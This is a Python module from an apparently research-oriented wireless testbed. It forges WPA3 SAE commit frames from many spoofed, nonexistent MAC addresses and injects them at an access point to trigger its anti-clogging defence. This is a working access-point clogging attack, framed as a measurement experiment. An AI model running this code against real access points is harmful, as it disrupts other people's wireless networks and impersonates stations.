"""Send SAE commits of stations that do not exist, as an attacker would who clogs access points.

An access point computes an answer to each commit, which takes longer than sending it. So it asks
for a token (anti-clogging, IEEE 802.11-2020, 12.4.6) once it has a number of unfinished exchanges.
`send_commits` sends that number, from as many addresses. Standard library only: this runs in the
guest.
"""

from __future__ import annotations

import secrets
import struct
from typing import TYPE_CHECKING

from measure.attacks import injection
from topologies.medium import tuned_frequency_mhz

if TYPE_CHECKING:
    from topologies.builder import Testbed

#: Interface with a stranger's address. mac80211 sends a frame from an address that an interface on
#: the channel has, and an ad hoc network (IBSS) needs no other station.
_PORT = "stranger0"
#: Address of station NUMBER that does not exist.
STRANGER = "02:00:00:00:ee:{:02x}"
#: Generators of groups 19, 20 and 21 (P-256, P-384, P-521), which are valid elements of a commit.
_ELEMENTS = {
    19: "6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
        "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5",
    20: "aa87ca22be8b05378eb1c71ef320ad746e1d3b628ba79b9859f741e082542a385502f25dbf55296c3a545e38"
        "72760ab73617de4a96262c6f5d9e98bf9292dc29f8f41dbd289a147ce9da3113b5f0b8c00a60b1ce1d7e819d"
        "7a431d7c90ea0e5f",
    21: "00c6858e06b70404e9cd9e3ecb662395b4429c648139053fb521f828af606b4d3dbaa14b5e77efe75928fe1d"
        "c127a2ffa8de3348b3c1856a429bf97e7e31c2e5bd66"
        "011839296a789a3bc0045c8a5fb42c7d1bd998f54449579b446817afbd17273e662c97ee72995ef42640c550"
        "b9013fad0761353c7086a272c24088be94769fd16650"}
#: Authentication frame: frame control, and algorithm, transaction, status and group.
_AUTHENTICATION, _COMMIT = bytes((0xB0, 0x00)), struct.Struct("<HHHH")
_SAE, _FIRST = 3, 1
_SUCCESS, _HASH_TO_ELEMENT = 0, 126


def commit_frame(station: str, cell: str, group: int, *, is_h2e: bool) -> bytes:
    """Return an SAE commit of a station with a random scalar.

    Args:
        station: MAC address of the sender.
        cell: MAC address of the access point.
        group: The group, 19 to 21.
        is_h2e: Whether the access point wants hash to element.
    """
    element = bytes.fromhex(_ELEMENTS[group])
    # Two leading bytes of zero keep the scalar below the order of each group.
    scalar = bytes(2) + secrets.token_bytes(len(element) // 2 - 2)
    body = _COMMIT.pack(_SAE, _FIRST, _HASH_TO_ELEMENT if is_h2e else _SUCCESS, group)
    return (_AUTHENTICATION + bytes(2) + injection.mac_bytes(cell) + injection.mac_bytes(station)
            + injection.mac_bytes(cell) + bytes(2) + body + scalar + element)


def send_commits(testbed: Testbed, name: str, access_point: str, count: int, group: int, *,
                 is_h2e: bool) -> None:
    """Send SAE commits by a node's radio, each from another address.

    Args:
        testbed: The running testbed.
        name: The node, which has to be associated.
        access_point: The access point that receives the commits.
        count: Number of commits.
        group: The group, 19 to 21.
        is_h2e: Whether the access point wants hash to element.

    Raises:
        OSError: A frame cannot be sent.
        CalledProcessError: The radio cannot have further interfaces.
    """
    nodes = testbed.network.nodes
    cell, radio = nodes[access_point], nodes[name].radio_interface
    frequency = str(tuned_frequency_mhz(testbed.medium, cell.channel or 1,
                                        testbed.network.access_point_channels))
    for number in range(1, count + 1):
        mac = STRANGER.format(number)
        testbed.run_command(name, ["iw", "dev", radio, "interface", "add", _PORT, "type", "ibss",
                                   "addr", mac])
        try:
            testbed.run_command(name, ["ip", "link", "set", _PORT, "up"])
            testbed.run_command(name, ["iw", "dev", _PORT, "ibss", "join", _PORT, frequency,
                                       "fixed-freq"])
            injection.inject_frame(testbed, name, nodes[name], commit_frame(
                mac, cell.radio_mac, group, is_h2e=is_h2e))
        finally:
            testbed.run_command(name, ["iw", "dev", _PORT, "del"])
